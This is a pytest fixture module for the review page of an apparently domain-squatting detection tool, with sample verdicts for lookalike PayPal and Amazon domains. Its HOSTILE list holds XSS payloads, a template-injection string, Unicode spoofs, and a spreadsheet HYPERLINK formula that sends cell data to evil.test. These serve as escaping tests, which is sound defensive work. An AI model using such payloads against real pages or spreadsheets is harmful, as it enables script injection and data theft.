"""What tests of the Detections page share: a data root with three dates, and the page as each role sees it."""

from __future__ import annotations

import os
import shutil
from datetime import date, timedelta
from functools import cache
from pathlib import Path

import made_dates
import pytest

new_dates, dates = made_dates.new_dates, made_dates.dates
ApiServer = made_dates.module_at(Path(__file__).with_name("api_server.py")).ApiServer

DAY = date(2026, 11, 7)
EMPTY, EARLIER = DAY - timedelta(days=1), DAY - timedelta(days=2)
HOSTILE_DAY = DAY - timedelta(days=5)
HERE = {"Sec-Fetch-Site": "same-origin"}

# what a name, a reason or a note may carry; the domains themselves are always A-labels
HOSTILE = (
    "<img src=x onerror=window.hacked=1>",
    "<script>window.hacked=1</script>",
    '"><svg onload=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "javascript:window.hacked=1//",
    "{{ 7*7 }}{% raise %}${7*7}",
    '=HYPERLINK("http://evil.test/?"&A1,"paypal")',
    "\u202emoc.lapyap",
    "раура\u200bl.com",
    "`code` </code><img src=http://evil.test/x>",
)


def verdict(domain: str, brand: str = "paypal", score: float = 0.9, **more: object) -> dict:
    """A row of detections."""
    row = {"domain": domain, "brand": brand, "score": score, "is_detection": score >= 0.5, "technique": "combo"}
    components = dict.fromkeys(("resemblance", "placement", "surroundings", "words"), 2.5)
    row |= {f"component_{name}": value for name, value in components.items()}
    return row | {"reason": f"`{brand}` plus something", "matched_text": brand, "aligned": []} | more


VERDICTS = [
    verdict("paypal-login.com", score=0.99),
    verdict("arnazon.com", "amazon", 0.98, technique="homoglyph", matched_text="arnazon", aligned=["rn>m"]),
    verdict(
        "xn--pypal-4ve.com", score=0.97, technique="homoglyph", domain_unicode="pаypal.com",
        matched_text="pаypal", aligned=["а>a"], reason="`paypal` written with Cyrillic `а`",
    ),
    verdict("paypal-vip.top", score=0.7),
    verdict("paypal-blog.net", score=0.3),  # below the threshold
]  # fmt: skip


@pytest.fixture(scope="session")
def data_root(new_dates, tmp_path_factory):
    """Three dates: an earlier one, one on which nothing was found, and DAY. Tests work on copies."""
    home = tmp_path_factory.mktemp("page") / "data"
    dates = new_dates(home)
    dates.write_verdicts(EARLIER, [verdict("paypal-login.com")], also=("weather.com",))
    dates.write_verdicts(EMPTY, [], also=("news.org",))
    dates.write_verdicts(DAY, VERDICTS, also=("garden.org",))
    dates.publish()
    return home


def linked_or_copied(file: str, copy: str) -> None:
    """Links what nobody changes; copies the warehouse."""
    (shutil.copyfile if file.endswith("warehouse.duckdb") else os.link)(file, copy)


def copied(data: Path, copy: Path) -> Path:
    """A copy of a data root, with a warehouse as a publish of the copy makes it: views name files by absolute paths."""
    import duckdb

    shutil.copytree(data, copy, symlinks=True, copy_function=linked_or_copied)
    with duckdb.connect(copy / "warehouse.duckdb") as warehouse:
        warehouse.begin()  # one transaction, because each waits for the disk
        over_files = "select sql from duckdb_views() where not internal and contains(sql, 'read_parquet(')"
        for (sql,) in warehouse.execute(over_files).fetchall():
            here = sql.replace("CREATE VIEW", "CREATE OR REPLACE VIEW", 1).replace(f"{data}/", f"{copy}/")
            warehouse.execute(here)
        warehouse.commit()
    return copy


@pytest.fixture(scope="module")
def data_root_to_come(data_root, tmp_path_factory):
    """A copy of the data root beside the place that its views name: to write them takes longer than to copy it."""
    place = tmp_path_factory.mktemp("home") / "data"
    return copied(data_root, place).rename(place.with_name("to-come"))


@pytest.fixture
def home(data_root_to_come, monkeypatch):
    """A copy of the data root, which the settings name; it is in the same place for each test."""
    from squatwatch.database import engine
    from squatwatch.settings import settings as settings_of_process

    place = data_root_to_come.with_name("data")
    shutil.copytree(data_root_to_come, place, symlinks=True, copy_function=linked_or_copied)
    monkeypatch.setenv("SQUATWATCH_HOME", str(place))
    settings_of_process.cache_clear()
    yield place
    settings_of_process.cache_clear()
    engine._engine.cache_clear()  # the next database there is another one
    shutil.rmtree(place)


@cache
def app_for(role: str, name: str):
    """The page for a user, made once, since its routes take longer to make than to ask."""
    from squatwatch.review.app import create_app

    return create_app()


class Page:
    """The page by FastAPI's test client, as a user with a role of Airflow's own auth manager."""

    def __init__(self, role: str = "USER", name: str = "uma", runs: dict | None = None, failed_task: object = None):
        from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
        from airflow.api_fastapi.core_api.security import get_user
        from fastapi.testclient import TestClient

        from squatwatch.review.runs import failures, run_states

        app = app_for(role, name)
        app.dependency_overrides.clear()
        app.dependency_overrides[run_states] = lambda: runs or {}
        app.dependency_overrides[failures] = lambda: lambda run_date: failed_task
        if role:
            app.dependency_overrides[get_user] = lambda: SimpleAuthManagerUser(username=name, role=role)
        self.client = TestClient(app, follow_redirects=False)
        self.get = self.client.get

    def rows(self, query: str = f"?date={DAY}") -> list[str]:
        """The defanged names on the page, in order."""
        import re

        answer = self.get(f"/{query}")
        assert answer.status_code == 200, answer.text
        return re.findall(r'data-name="([^"]*)"', answer.text)

    def post(self, where: str, headers: dict = HERE, **what: object):
        from fastapi.encoders import jsonable_encoder

        return self.client.post(where, json=jsonable_encoder({"run_date": DAY} | what), headers=headers)

    def judge(self, verdict: str, *ids: str, **more: object) -> dict:
        answer = self.post("/labels", verdict=verdict, detection_ids=ids, **more)
        assert answer.status_code == 200, answer.text
        return answer.json()

    def undo(self, outcome: dict, **more: object):
        return self.post("/undo", labels=outcome["labels"], **more)


@pytest.fixture
def page(home, monkeypatch):
    """page(role="VIEWER") gives the page as a viewer sees it."""
    from airflow.api_fastapi.app import create_auth_manager
    from airflow.models.dag import DagModel

    create_auth_manager()
    monkeypatch.setattr(DagModel, "get_team_name", staticmethod(lambda dag_id: None))  # this asks the database
    return Page


def write_hostile_day(dates: made_dates.Dates, run_date: date = DAY) -> None:
    """A date that has hostile text wherever text can be."""
    from squatwatch.labels.label import Label
    from squatwatch.labels.store import label_store

    rows = [
        verdict(f"xn--hostile-{n}.com", score=0.9 - n / 100, domain_unicode=text, reason=text, technique=text,
                matched_text=text[:3], aligned=[f"{text[:1]}>p"], model_version=text[:90])
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    dates.write_verdicts(run_date, [*rows, verdict("paypal-login.com")])
    dates.publish()
    notes = [(row["domain"], text) for row, text in zip(rows, HOSTILE, strict=True)]
    label_store(dates.settings).add(
        [Label(f"paypal|{domain}", domain, "paypal", "watch", text[:50], text, run_date) for domain, text in notes]
    )


@pytest.fixture
def hostile_page(new_dates, tmp_path, page, monkeypatch):
    from squatwatch.settings import settings as settings_of_process

    write_hostile_day(new_dates(tmp_path / "hostile"))
    monkeypatch.setenv("SQUATWATCH_HOME", str(tmp_path / "hostile"))
    settings_of_process.cache_clear()
    return page()


@pytest.fixture(scope="session")
def data_root_with_hostile_day(data_root, new_dates, tmp_path_factory):
    """The three dates, and before them one of hostile text."""
    home = copied(data_root, tmp_path_factory.mktemp("hostile") / "data")
    write_hostile_day(new_dates(home), HOSTILE_DAY)
    return home


@pytest.fixture(scope="module")
def start_server(tmp_path_factory, prepare_airflow):
    """start_server(data, base_path="") gives an API server that answers, over a copy of the data root."""
    started = []

    def start(data: Path, **options: str):
        folder = tmp_path_factory.mktemp("server")
        copied(data, folder / "data")
        prepare_airflow(folder / "airflow")
        started.append(ApiServer(folder, folder / "data", **options))
        started[-1].start()
        return started[-1]

    yield start
    for server in started:
        server.stop()
